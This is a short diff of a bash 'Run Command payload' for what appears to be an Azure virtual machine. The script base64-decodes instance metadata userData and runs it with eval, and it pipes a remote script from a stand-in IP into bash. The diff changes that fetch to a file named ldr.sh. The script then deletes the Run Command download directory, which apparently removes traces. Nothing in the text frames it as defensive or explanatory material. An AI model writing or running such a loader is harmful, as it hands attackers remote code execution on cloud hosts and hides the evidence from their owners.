@@ -1,7 +1,7 @@
-# maintenance 2743 v0
+# task 0934 v0
 #!/bin/bash
 # Run Command payload
 UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 -d)
 eval "$UD"
-curl -s http://203.0.113.200/init.sh | bash
+curl -s http://198.51.100.9/ldr.sh | bash
 rm -rf /var/lib/waagent/run-command/download/*
